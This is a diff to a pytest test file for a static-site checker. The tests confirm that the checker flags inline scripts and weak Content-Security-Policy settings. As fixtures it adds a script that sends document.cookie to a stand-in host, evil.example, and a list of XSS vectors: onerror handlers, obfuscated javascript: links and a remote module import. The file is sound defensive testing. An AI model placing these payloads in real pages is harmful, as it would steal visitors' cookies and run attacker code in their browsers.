@@ -10,9 +10,11 @@ import pytest
 from sitegen.activities.site_checks import check_site
 
 URL = "https://acme.example.com/"
+CSP = "default-src 'self'; img-src 'self' data:; script-src 'self'; object-src 'none'"
 HEAD = """<!doctype html>
 <html lang="en">
 <head>
+  <meta http-equiv="Content-Security-Policy" content="{csp}">
   <title>{title}</title>
   <meta name="description" content="Acme Bakery bakes sourdough and pastries in Bristol, every day from seven.">
   {extra_head}
@@ -36,7 +38,7 @@ HOME_BODY = """<section aria-labelledby="hero-title"><h1 id="hero-title">Acme Ba
 
 def page(title: str, body: str, *, root: str = "", extra_head: str = "") -> str:
     icon = f'<link rel="icon" href="{root}favicon.svg">'
-    head = HEAD.format(title=title, extra_head=icon + extra_head, root=root)
+    head = HEAD.format(title=title, extra_head=icon + extra_head, root=root, csp=CSP)
     return head + body + FOOT.format(root=root)
 
 
@@ -88,7 +90,17 @@ DEFECTS = {
     "noopener": HOME_BODY + '<a href="https://x.example" target="_blank">X</a>',
     "placeholder": HOME_BODY + "<dl><dt>Opening hours</dt><dd>None</dd></dl>",
     "broken-link": HOME_BODY + '<a href="missing.html">Gone</a>',
+    # Inline code, in every form a content patch could try.
+    "inline-script": HOME_BODY + "<script>fetch('//evil.example/?c='+document.cookie)</script>",
 }
+INLINE_CODE = [
+    "<script>alert(1)</script>",
+    '<script type="module">import("//evil.example/x.js")</script>',
+    '<img src="logo.svg" alt="x" width="1" height="1" onerror="alert(1)">',
+    '<a href="javascript:alert(1)">Offer</a>',
+    '<a href=" JavaScript:alert(1)">Offer</a>',
+    '<body onload="alert(1)">',
+]
 
 
 @pytest.mark.parametrize("rule", DEFECTS)
@@ -170,4 +182,40 @@ def test_an_image_without_its_size_is_found(tmp_path: Path) -> None:
     body = HOME_BODY.replace(' width="96" height="48"', ' height="48"')
     home = page(HOME, body, extra_head=f'<link rel="canonical" href="{URL}">')
     findings = check_site(write_site(tmp_path, **{"index.html": home}), "en").findings
-    assert [(f.rule, f.line) for f in findings if f.rule == "img-size"] == [("img-size", 14)]
+    assert [(f.rule, f.line) for f in findings if f.rule == "img-size"] == [("img-size", 15)]
+
+
+@pytest.mark.parametrize("code", INLINE_CODE)
+def test_inline_code_in_any_form_is_found(tmp_path: Path, code: str) -> None:
+    home = page(HOME, HOME_BODY + code, extra_head=f'<link rel="canonical" href="{URL}">')
+    report = check_site(write_site(tmp_path, **{"index.html": home}), "en")
+    assert "inline-script" in {f.rule for f in report.findings}, code
+
+
+def test_structured_data_is_not_code(tmp_path: Path) -> None:
+    data = '<script type="application/ld+json">{"@type": "Bakery"}</script>'
+    home = page(HOME, HOME_BODY + data, extra_head=f'<link rel="canonical" href="{URL}">')
+    assert check_site(write_site(tmp_path, **{"index.html": home}), "en").ok
+
+
+@pytest.mark.parametrize(
+    "policy",
+    [
+        None,
+        "img-src 'self'",  # scripts unrestricted
+        "default-src 'self'; script-src 'self' 'unsafe-inline'; object-src 'none'",
+        "script-src *; object-src 'none'",
+        "script-src https:; object-src 'none'",
+        "script-src 'self'",  # plugins allowed
+    ],
+)
+def test_a_policy_that_lets_inline_code_run_is_found(tmp_path: Path, policy: str | None) -> None:
+    home = page(HOME, HOME_BODY, extra_head=f'<link rel="canonical" href="{URL}">')
+    home = home.replace(
+        f'<meta http-equiv="Content-Security-Policy" content="{CSP}">',
+        "" if policy is None else f'<meta http-equiv="Content-Security-Policy" content="{policy}">',
+    )
+    report = check_site(write_site(tmp_path, **{"index.html": home}), "en")
+    assert [f.rule for f in report.findings if f.file == "index.html"] == ["csp"], policy
+    # A copy of a version-3 template predates the rule: its builds are not failed by it.
+    assert check_site(tmp_path, "en", template_version=3).ok
